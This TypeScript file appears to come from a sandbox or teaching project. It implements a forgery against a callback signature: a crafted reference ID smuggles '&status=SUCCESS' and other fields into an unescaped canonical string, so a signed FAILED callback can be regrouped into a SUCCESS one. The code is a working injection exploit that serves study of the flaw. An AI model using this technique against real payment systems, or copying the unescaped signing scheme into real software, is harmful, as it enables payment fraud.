import type { CallbackFields } from "../signature/canonical-string.ts";

/** A genuine callback, and other fields that have the same canonical string and so the same signature. */
export interface Forgery {
  readonly genuine: CallbackFields;
  readonly forged: CallbackFields;
}

/**
 * The attack on the canonical string (docs/guides/sandbox.md, Faults). Nothing in that string is escaped, so whoever
 * chooses a reference can write further fields into it. The service signs a FAILED callback for the reference
 * `victim&status=SUCCESS&timestamp=…&userId=u`. Cut into other fields, the same text is a SUCCESS for `victim`, whose
 * `userId` contains the rest of the text. A receiver that only checks the signature accepts it.
 *
 * @param fields the fields of the FAILED callback, with the reference of the victim.
 */
export function resplit(fields: CallbackFields): Forgery {
  const { referenceId, timestamp, userId } = fields;
  const genuine: CallbackFields = {
    ...fields,
    referenceId: `${referenceId}&status=SUCCESS&timestamp=${timestamp}&userId=u`,
  };
  const forged: CallbackFields = {
    ...fields,
    status: "SUCCESS",
    userId: `u&status=${fields.status}&timestamp=${timestamp}&userId=${userId}`,
  };
  return { genuine, forged };
}
